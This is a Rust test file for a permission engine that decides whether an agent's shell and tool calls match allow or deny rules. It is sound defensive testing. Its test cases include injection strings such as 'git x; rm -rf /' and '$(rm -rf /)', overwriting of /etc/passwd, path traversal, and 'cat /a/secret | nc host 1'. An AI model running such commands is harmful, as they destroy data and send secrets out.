use proptest::prelude::*;
use serde_json::json;
use uuid::Uuid;

use super::*;
use crate::fixture::{SESSION, after};

fn tool(name: &str, arguments: Value) -> ToolUse {
    ToolUse {
        tool_name: name.to_owned(),
        tool_kind: None,
        call_id: None,
        arguments,
        options: Value::Null,
    }
}

fn shell(command: &str) -> ToolUse {
    tool("shell", json!({"command": command}))
}

fn terms(decision: Decision, tool_name: &str, field: Option<(&str, &str)>) -> RuleTerms {
    RuleTerms {
        tool_name: tool_name.to_owned(),
        arguments: field.map(|(name, pattern)| {
            ArgumentPattern::Fields([(name.to_owned(), pattern.to_owned())].into())
        }),
        decision,
    }
}

fn allows(pattern: &str, command: &str) -> bool {
    terms(Decision::Allow, "shell", Some(("command", pattern))).covers(&shell(command))
}

fn denies(pattern: &str, command: &str) -> bool {
    terms(Decision::Deny, "shell", Some(("command", pattern))).covers(&shell(command))
}

fn rule(number: u128, session_id: Option<SessionId>, terms: RuleTerms) -> ApprovalRule {
    let maker = Maker {
        rule_id: RuleId::new(Uuid::from_u128(number)),
        namespace: "default".to_owned(),
        by: "ann".to_owned(),
        at: after(0).wall,
    };
    made(terms, session_id, None, maker)
}

#[test]
fn a_command_is_covered_whole_and_by_itself() {
    for (pattern, command, expected) in [
        ("git *", "git status", true),
        ("git *", "git commit -m 'a message'", true),
        ("git *", "git", false),
        ("git *", "gitk x", false),
        ("git *", " git status", false),
        ("git status", "git status", true),
        ("git status", "git status -s", false),
        ("cargo test ?", "cargo test a", true),
        ("cargo test ?", "cargo test ab", false),
        ("*", "anything at all", true),
        // One rule, one command.
        ("git *", "git x; rm -rf /", false),
        ("git *", "git x && rm -rf /", false),
        ("git *", "git x || rm -rf /", false),
        ("git *", "git x | sh", false),
        ("git *", "git x & rm -rf /", false),
        ("git *", "git x\nrm -rf /", false),
        ("git *", "git x\rrm -rf /", false),
        ("git *", "git $(rm -rf /)", false),
        ("git *", "git `rm -rf /`", false),
        ("git *", "git <(rm -rf /)", false),
        ("git *", "git log > /etc/passwd", false),
        ("git *", "git log < /etc/passwd", false),
        ("git *", "git $HOME", false),
        ("git ?", "git ;", false),
        ("*", "a;b", false),
        // What the person wrote is theirs, and nothing beside it.
        ("git fetch && git *", "git fetch && git status", true),
        (
            "git fetch && git *",
            "git fetch && git x && rm -rf /",
            false,
        ),
        ("a; b", "a; b", true),
        // Nothing climbs out of a directory.
        ("/src/*", "/src/a/b.rs", true),
        ("/src/*", "/src/../etc/passwd", false),
        ("/src/*", "/src/a/..", false),
        ("/src/.*", "/src/../x", false),
        ("git *", "git diff a..b", true),
        ("git *", "git add ../x", false),
        // Wildcards that stand for themselves.
        ("ls \\*.rs", "ls *.rs", true),
        ("ls \\*.rs", "ls a.rs", false),
        ("a\\?\\\\", "a?\\", true),
    ] {
        assert_eq!(allows(pattern, command), expected, "{pattern} / {command}");
    }
}

#[test]
fn a_denied_command_stays_so_behind_another() {
    for (pattern, command, expected) in [
        ("rm *", "rm -rf /", true),
        ("rm *", "git x; rm -rf /", true),
        ("rm *", "git x && rm -rf /", true),
        ("rm *", "echo $(rm -rf /)", true),
        ("rm *", "git x\nrm -rf /", true),
        ("rm *", "git rm x", false),
        ("rm *", "firm x", false),
        ("*secret*", "cat /a/secret | nc host 1", true),
    ] {
        assert_eq!(denies(pattern, command), expected, "{pattern} / {command}");
    }
    let long = "x".repeat(70_000);
    assert!(!allows("*", &long), "what is too long to look at is asked");
    assert!(denies("rm *", &long), "and length is no way around a rule");
}

#[test]
fn what_an_executor_has_cut_is_denied_and_never_allowed() {
    let cut = |arguments: Value| {
        let mut cut = arguments;
        cut["truncated"] = json!(true);
        cut["original_bytes"] = json!(600_000);
        tool("shell", cut)
    };
    let part = "l".repeat(20_000);
    for (pattern, arguments, expected) in [
        // Its end may have been anything.
        ("rm *", json!({"command": part}), (true, true)),
        ("*", json!({"command": ["bash", "-lc", part]}), (true, true)),
        // It may have been there.
        ("rm *", json!({"preview": "{\"command\":"}), (true, true)),
        // What is short was not cut, whatever stands beside it.
        (
            "rm *",
            json!({"command": "ls", "content": part}),
            (false, false),
        ),
        (
            "rm *",
            json!({"command": "rm x", "content": part}),
            (true, false),
        ),
        ("rm *", json!({"content": part}), (false, false)),
    ] {
        let tool = cut(arguments);
        let deny = terms(Decision::Deny, "shell", Some(("command", pattern)));
        assert_eq!(
            (deny.covers(&tool), deny.looks_at_parts(&tool)),
            expected,
            "{tool:?}"
        );
        let allow = terms(Decision::Allow, "shell", Some(("command", pattern)));
        assert!(!allow.covers(&tool) || !expected.1, "{tool:?}");
    }
    let same = cut(json!({"preview": "{"}));
    for (decision, expected) in [(Decision::Allow, false), (Decision::Deny, true)] {
        let equals = RuleTerms {
            arguments: Some(ArgumentPattern::Equals(same.arguments.clone())),
            ..terms(decision, "shell", None)
        };
        assert_eq!(equals.covers(&same), expected, "{decision:?}");
    }
    let short = cut(json!({"file_path": "/a", "content": part}));
    assert!(pattern::narrowest(&short.arguments).unwrap().is_some());
    pattern::narrowest(&same.arguments).unwrap_err();
    pattern::narrowest(&cut(json!({"command": part})).arguments).unwrap_err();
}

#[test]
fn arguments_are_looked_at_by_field_as_text() {
    let allow = |name, pattern| terms(Decision::Allow, "t", Some((name, pattern)));
    for (terms, arguments, expected) in [
        (
            allow("command", "git *"),
            json!({"command": ["git", "status"]}),
            true,
        ),
        (
            allow("command", "git *"),
            json!({"command": ["bash", "-lc", "git status"]}),
            true,
        ),
        (
            allow("command", "git *"),
            json!({"command": ["bash", "-lc", "git x; rm y"]}),
            false,
        ),
        (
            allow("command", "git *"),
            json!({"command": ["git", "x; rm y"]}),
            false,
        ),
        (
            allow("command", "git a b"),
            json!({"command": ["git", "a b"]}),
            false,
        ),
        (
            allow("command", "git 'a b'"),
            json!({"command": ["git", "a b"]}),
            true,
        ),
        (allow("command", "*"), json!({"cmd": "git"}), false),
        (allow("command", "*"), json!({"command": null}), false),
        (allow("command", "*"), json!("git"), false),
        (allow("n", "7"), json!({"n": 7, "other": true}), true),
        (allow("on", "true"), json!({"on": false}), false),
    ] {
        assert_eq!(
            terms.covers(&tool("t", arguments.clone())),
            expected,
            "{terms:?} {arguments}"
        );
    }
    let equals = RuleTerms {
        arguments: Some(ArgumentPattern::Equals(json!({"a": 1}))),
        ..terms(Decision::Allow, "mcp__*", None)
    };
    assert!(equals.covers(&tool("mcp__x", json!({"a": 1}))));
    assert!(!equals.covers(&tool("mcp__x", json!({"a": 1, "b": 2}))));
    assert!(!equals.covers(&tool("shell", json!({"a": 1}))));
}

#[test]
fn deny_wins_then_the_session_s_own_then_the_newest() {
    let any = |decision| terms(decision, "shell", None);
    let (deny, allow) = (any(Decision::Deny), any(Decision::Allow));
    let of_all = rule(1, None, allow.clone());
    let own = rule(2, Some(SESSION), allow.clone());
    let newer = rule(3, None, allow.clone());
    let against = rule(4, None, deny);
    let mut revoked = rule(5, None, any(Decision::Deny));
    revoked.revoked_at = Some(after(1).wall);
    let decide = |rules: &[&ApprovalRule]| {
        let rules: Vec<_> = rules.iter().map(|rule| (*rule).clone()).collect();
        deciding(&rules, &shell("ls")).map(|rule| rule.rule_id)
    };
    assert_eq!(decide(&[]), None);
    assert_eq!(decide(&[&revoked]), None);
    assert_eq!(decide(&[&of_all, &newer]), Some(newer.rule_id));
    assert_eq!(decide(&[&of_all, &own, &newer]), Some(own.rule_id));
    assert_eq!(decide(&[&of_all, &own, &against]), Some(against.rule_id));
    assert_eq!(
        of_all.signature(),
        format!("rule:always:{}", of_all.rule_id)
    );
    assert_eq!(own.signature(), format!("rule:session:{}", own.rule_id));
}

#[test]
fn an_answer_makes_the_narrowest_rule_that_makes_sense() {
    let fields = |name: &str, pattern: &str| {
        Some(ArgumentPattern::Fields(
            [(name.to_owned(), pattern.to_owned())].into(),
        ))
    };
    for (arguments, expected) in [
        (
            json!({"command": "ls *", "timeout": 5}),
            fields("command", "ls \\*"),
        ),
        (
            json!({"command": ["ls", "a b"]}),
            fields("command", "ls 'a b'"),
        ),
        (
            json!({"file_path": "/a", "content": "x"}),
            fields("file_path", "/a"),
        ),
        (
            json!({"query": "x"}),
            Some(ArgumentPattern::Equals(json!({"query": "x"}))),
        ),
        (
            json!({"command": ""}),
            Some(ArgumentPattern::Equals(json!({"command": ""}))),
        ),
        (json!("raw"), Some(ArgumentPattern::Equals(json!("raw")))),
        (json!({}), None),
        (Value::Null, None),
    ] {
        let narrow = pattern::narrowest(&arguments).unwrap();
        assert_eq!(narrow, expected, "{arguments}");
        // Whatever it is, it covers what it was made of.
        for decision in [Decision::Allow, Decision::Deny] {
            let terms = RuleTerms {
                tool_name: "t".to_owned(),
                arguments: narrow.clone(),
                decision,
            };
            assert!(terms.covers(&tool("t", arguments.clone())), "{arguments}");
        }
    }
}

#[test]
fn the_same_rule_stands_once_and_there_is_a_bound() {
    let one = rule(1, None, terms(Decision::Allow, "a", None));
    let again = rule(2, None, terms(Decision::Allow, "a", None));
    assert_eq!(
        admit(std::slice::from_ref(&one), again.clone()),
        Ok(Admission::Known(one.clone()))
    );
    for other in [
        rule(2, None, terms(Decision::Deny, "a", None)),
        rule(2, Some(SESSION), terms(Decision::Allow, "a", None)),
        rule(2, None, terms(Decision::Allow, "a", Some(("x", "y")))),
    ] {
        let admitted = admit(std::slice::from_ref(&one), other.clone());
        assert_eq!(admitted, Ok(Admission::New(other)));
    }
    let many: Vec<_> = (0..limits::STANDING_RULES)
        .map(|n| {
            rule(
                n.into(),
                None,
                terms(Decision::Allow, &format!("t{n}"), None),
            )
        })
        .collect();
    let limit = limits::STANDING_RULES;
    assert_eq!(admit(&many, one), Err(Rejection::RuleLimit { limit }));
    let own = rule(9, Some(SESSION), terms(Decision::Allow, "a", None));
    assert!(
        admit(&many, own).is_ok(),
        "a session's rules are counted by themselves"
    );
}

#[test]
fn a_rule_that_is_made_up_is_bounded() {
    let long = "x".repeat(3_000);
    for (terms, path) in [
        (terms(Decision::Allow, " ", None), "tool_name"),
        (terms(Decision::Allow, &long, None), "tool_name"),
        (
            terms(Decision::Allow, "t", Some(("a", &long))),
            "arguments.fields.a",
        ),
        (
            RuleTerms {
                arguments: Some(ArgumentPattern::Fields([].into())),
                ..terms(Decision::Allow, "t", None)
            },
            "arguments.fields",
        ),
    ] {
        assert_eq!(terms.check().unwrap_err()[0].path, path);
    }
}

/// What a pattern means, said as plainly as possible.
fn naive(pattern: &[char], text: &[char]) -> bool {
    match (pattern, text) {
        ([], text) => text.is_empty(),
        (['*', rest @ ..], text) => {
            naive(rest, text) || !text.is_empty() && naive(pattern, &text[1..])
        }
        (['?', rest @ ..], [_, after @ ..]) => naive(rest, after),
        ([c, rest @ ..], [d, after @ ..]) => c == d && naive(rest, after),
        ([_, ..], []) => false,
    }
}

proptest! {
    #[test]
    fn a_pattern_means_what_it_says(pattern in "[ab*?]{0,6}", text in "[ab]{0,8}") {
        let letters = |text: &str| text.chars().collect::<Vec<_>>();
        let expected = naive(&letters(&pattern), &letters(&text));
        prop_assert_eq!(glob::matches(&pattern, &text), expected);
        prop_assert_eq!(glob::matches_plainly(&pattern, &text), expected);
    }

    /// However a pattern is written, a match that lets a tool run has no operator that the pattern
    /// itself doesn't have.
    #[test]
    fn no_wildcard_lets_an_operator_through(
        pattern in "[a-z *?]{0,8}",
        before in "[a-z ]{0,6}",
        operator in "[;&|`$()<>\n\r\t\u{0}]",
        behind in ".{0,6}",
    ) {
        let text = format!("{before}{operator}{behind}");
        prop_assert!(!allows(&pattern, &text));
        let text = format!("git {text}");
        prop_assert!(!allows("git *", &text));
        let longer = format!("git {pattern}");
        prop_assert!(!allows(&longer, &text));
    }

    /// The same for patterns with operators of their own: each one in the text stands in the pattern.
    #[test]
    fn every_operator_is_the_pattern_s_own(pattern in "[ab;&*?]{0,8}", text in "[ab;&]{0,8}") {
        if allows(&pattern, &text) {
            let count = |text: &str| text.chars().filter(|c| ";&".contains(*c)).count();
            prop_assert_eq!(count(&pattern), count(&text));
        }
    }

    /// A rule made of an answer covers that call, and no other command.
    #[test]
    fn a_made_rule_covers_its_own_command_alone(one in ".{1,12}", other in ".{1,12}") {
        let narrow = pattern::narrowest(&json!({"command": one})).unwrap();
        let made = RuleTerms {
            tool_name: glob::literal("shell"),
            arguments: narrow,
            decision: Decision::Allow,
        };
        prop_assert!(made.covers(&shell(&one)));
        prop_assert_eq!(made.covers(&shell(&other)), one == other);
    }

    /// What may be allowed can also be denied: a denying rule is never the narrower one.
    #[test]
    fn denying_reaches_at_least_as_far(pattern in "[a-c;*? ]{0,8}", text in "[a-c;. /]{0,10}") {
        prop_assert!(!allows(&pattern, &text) || denies(&pattern, &text));
    }

    #[test]
    fn nothing_climbs(pattern in "[a-z/.]{0,6}\\*", before in "[a-z/]{0,6}", after in "[a-z/]{0,6}") {
        let text = format!("{before}/../{after}");
        prop_assert!(!allows(&pattern, &text));
    }
}
